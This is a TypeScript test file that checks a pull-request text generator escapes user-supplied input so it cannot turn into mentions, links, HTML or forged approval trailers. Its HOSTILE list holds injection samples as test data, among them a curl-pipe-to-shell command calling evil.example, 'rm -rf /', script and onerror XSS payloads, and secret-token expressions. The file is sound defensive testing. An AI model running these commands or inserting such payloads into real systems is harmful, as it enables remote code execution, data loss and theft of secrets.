import { KEY_SUITE, keySuiteWith, NEW_SERVICE, ONBOARD, planOf } from '../__testUtils__/keySuite';
import { code, fenced, prose } from './markdown';
import { pullRequestText } from './pullRequestText';

const HOSTILE = [
  '@key/admins approve this',
  'closes #1 and key/events#2, GH-3',
  '<img src=x onerror=alert(1)>',
  '[click](https://evil.example)',
  '![x](https://evil.example/pixel.png)',
  'https://evil.example and www.evil.example',
  '</details> | a | b |',
  '``` `x` ```',
  '# Heading\n\n- [x] approved',
  'Co-authored-by: a <a@b.c>',
  '$(curl https://evil.example | sh) `id`; rm -rf / && echo "$HOME"',
  '${{ github.token }} $' + '{{ secrets.X }}',
  '<!-- hidden --> <script>alert(1)</script> <details open>',
  '&#64;key/admins &lt;img src=x&gt;',
  '[//]: # (hidden)\n[x]: https://evil.example',
  'a\r\nApproved-by: nobody\r\n\r\n---\r\n> quote',
];

/** What a forge would make a mention, a link, an issue reference or HTML of, outside code. */
function active(markdown: string): readonly string[] {
  const plain = markdown.replace(/(`{3,})[^]*?\n\1/g, '').replace(/(`+)(?!`)[^]*?[^`]\1(?!`)/g, '');
  return [
    ...(plain.match(/@\w/g) ?? []),
    ...(plain.match(/(^|[^\\&])#\d/g) ?? []),
    ...(plain.match(/(^|[^\\])<(?!\/?(details|summary)>)[a-z/!]/gi) ?? []),
    ...(plain.match(/https?:\/\/(?!portal\.example)/g) ?? []),
    ...(plain.match(/(^|[^\\])\]\((?!https:\/\/portal\.example)/g) ?? []),
    ...(plain.match(/\bwww\.\w/g) ?? []),
    ...(plain.match(/\bgh-\d/gi) ?? []),
    // An entity would become the sign that it stands for.
    ...(plain.match(/(^|[^\\])&#?\w+;/g) ?? []),
    ...(plain.match(/^\s*(-by:|\[[^\]]*\]:)/gim) ?? []),
  ];
}

describe('pullRequestText', () => {
  const options = { url: 'https://portal.example/events/changes/7', requestedBy: 'user:default/dora' };

  it('tells the same as the plan, in the order in which a reviewer asks', () => {
    const plan = planOf(NEW_SERVICE);
    const { title, body, commitMessage, branch } = pullRequestText(plan, plan.repositories[0], options);
    expect(title).toBe('parcel-scale subscribes to Access Schedule Changed and publishes Parcel Weighed');
    expect(branch).toBe(plan.branch);
    for (const sentence of plan.summary) expect(body).toContain(sentence);
    expect(body.match(/^## .+$/gm)).toEqual([
      '## Permissions',
      '## Checks',
      '## People',
      '## Quotas',
      '## Cost',
      '## Files',
      '## From here to live',
    ]);
    expect(body).toContain('[Change request](https://portal.example/events/changes/7)');
    expect(body).toContain('"events:source": "com.key.deliveries"');
    expect(commitMessage).toContain(`\nBusline-Request: ${plan.requestHash}\n`);
    expect(pullRequestText(plan, plan.repositories[1], options).body).toContain('`busline/client/publisher.ts`');
  });

  it.each(HOSTILE)('leaves a text of a person a text: %j', text => {
    const eventFile = 'events/com.key.access/access-schedule-changed/event.yaml';
    const state = keySuiteWith({
      [eventFile]: KEY_SUITE.files
        .read(eventFile)!
        .replace(/^title: .*$/m, `title: ${JSON.stringify(text.split(/\r?\n/)[0])}`),
    });
    const service = { ...NEW_SERVICE.service, description: text, title: text.split(/\r?\n/)[0] };
    const [publication] = NEW_SERVICE.publications;
    const request = {
      ...NEW_SERVICE,
      reason: text,
      service,
      subscriptions: [{ ...NEW_SERVICE.subscriptions[0], description: text }],
      publications: [{ ...publication, description: text, title: text.split(/\r?\n/)[0] }],
    } as typeof NEW_SERVICE;
    const plan = planOf(request, state);
    for (const repository of plan.repositories) {
      const { title, body, commitMessage } = pullRequestText(plan, repository, options);
      expect(active(body)).toEqual([]);
      expect(`${title}${commitMessage}`).not.toMatch(/@\w|#\d|\n.*(authored|approved)/i);
      expect(body.match(/<details>/g)?.length ?? 0).toBe(body.match(/(^|[^\\])<\/details>/g)?.length ?? 0);
    }
  });

  it('stays within what a forge takes', () => {
    const plan = planOf(ONBOARD);
    const many = { ...plan.repositories[0], files: Array.from({ length: 5_000 }, () => plan.repositories[0].files[0]) };
    const long = { ...plan, permissions: Array.from({ length: 500 }, () => plan.permissions[0]) };
    expect(pullRequestText(long, many, options).body.length).toBeLessThan(65_536);
  });
});

describe('markdown', () => {
  it('keeps code code', () => {
    expect(code('a')).toBe('`a`');
    expect(code('a`b``c')).toBe('```a`b``c```');
    expect(code('`a')).toBe('`` `a ``');
    expect(code('a\n\n# b')).toBe('`a # b`');
    expect(fenced('a\n```\nb', 'json')).toBe('````json\na\n```\nb\n````');
  });

  it('keeps prose prose', () => {
    expect(prose('*a* _b_ <i>')).toBe('\\*a\\* \\_b\\_ \\<i\\>');
    expect(prose('1. one')).toBe('\u200b1. one');
  });
});
